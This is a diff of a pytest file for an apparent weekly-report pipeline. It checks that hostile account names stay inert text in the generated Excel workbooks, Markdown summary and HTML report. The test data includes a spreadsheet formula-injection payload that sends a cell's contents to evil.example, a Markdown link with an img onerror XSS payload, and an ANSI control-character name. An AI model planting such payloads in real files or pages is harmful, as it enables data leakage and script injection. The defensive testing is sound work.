@@ -1,12 +1,14 @@
 """Hostile account names stay inert text in every file the weekly report writes.
 
-The clean build's warehouse is copied, one account renamed to a spreadsheet formula and a
-second to a Markdown link in every mart that carries the name, and the report of the
-latest week rendered from the copy (real marts, real renderer)."""
+The clean build's warehouse is copied, one account renamed to a spreadsheet formula, a
+second to a Markdown link and a third to a name with control characters in every mart that
+carries the name, and the report of the latest week rendered from the copy (real marts,
+real renderer)."""
 
 from __future__ import annotations
 
 import shutil
+from html import escape
 
 import duckdb
 import pytest
@@ -19,6 +21,8 @@ from ka_pipeline.runs.report import latest_report_week
 
 FORMULA = '=HYPERLINK("http://evil.example/x?"&C2,"open")'
 LINK = "[点击领奖](http://evil.example/a) <img src=x onerror=alert(1)>"
+# a BEL and an ESC, which openpyxl refuses (IllegalCharacterError): written as U+FFFD
+CONTROL = "Acme\x07 Trading\x1b[31m"
 
 
 @pytest.mark.parametrize("text", ["=1+1", "+86", "-2", "@SUM(A1)", "\tx", "\r=1", "＝1"])
@@ -45,12 +49,12 @@ def hostile_report(clean_build, tmp_path_factory):
     warehouse = root / "warehouse.duckdb"
     shutil.copyfile(clean_build.settings.warehouse_path, warehouse)
     with duckdb.connect(str(warehouse)) as conn:
-        # the two largest accounts: in the summary's top list and in the review workbook
-        (formula_id, link_id) = [
+        # the three largest accounts: in the summary's top list and in the review workbook
+        (formula_id, link_id, control_id) = [
             r[0]
             for r in conn.execute(
                 "select account_id from marts.mart_top_accounts "
-                "where ranking_metric = 'revenue' order by rank_position limit 2"
+                "where ranking_metric = 'revenue' order by rank_position limit 3"
             ).fetchall()
         ]
         tables = conn.execute(
@@ -61,7 +65,7 @@ def hostile_report(clean_build, tmp_path_factory):
             "  where column_name = 'account_id' and table_schema = 'marts')"
         ).fetchall()
         for schema, table in tables:
-            for account, name in ((formula_id, FORMULA), (link_id, LINK)):
+            for account, name in ((formula_id, FORMULA), (link_id, LINK), (control_id, CONTROL)):
                 conn.execute(
                     f"update {schema}.{table} set account_name = ? where account_id = ?",
                     [name, account],
@@ -88,6 +92,16 @@ def test_no_workbook_cell_is_a_formula(hostile_report):
         assert names.count("'" + FORMULA) >= 2, output.xlsx
 
 
+def test_control_characters_in_names_do_not_break_the_workbooks(hostile_report):
+    shown = "Acme\ufffd Trading\ufffd[31m"  # the rest of the name stays as delivered
+    for output in hostile_report.outputs.values():
+        workbook = load_workbook(output.xlsx)
+        cells = [c.value for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]
+        workbook.close()
+        # the all-accounts sheet and the account's region sheet, in both languages
+        assert cells.count(shown) >= 2, output.xlsx
+
+
 def test_summary_and_its_messages_show_the_names_as_plain_text(hostile_report):
     for output in hostile_report.outputs.values():
         summary = output.summary.read_text(encoding="utf-8")
@@ -95,3 +109,11 @@ def test_summary_and_its_messages_show_the_names_as_plain_text(hostile_report):
         html = MarkdownIt("commonmark").enable("table").render(summary)  # as a reader sees it
         assert "<a " not in html and "<img" not in html, output.summary
         assert "http://evil" not in summary  # not even a bare URL a client would link
+
+
+def test_the_html_report_escapes_the_names(hostile_report):
+    for output in hostile_report.outputs.values():
+        page = output.html.read_text(encoding="utf-8")
+        assert "<img src=x" not in page and '<a href="http://evil' not in page, output.html
+        # the names are shown, as escaped text (&lt;img ..., &quot;, &amp;)
+        assert escape(LINK) in page and escape(FORMULA) in page, output.html
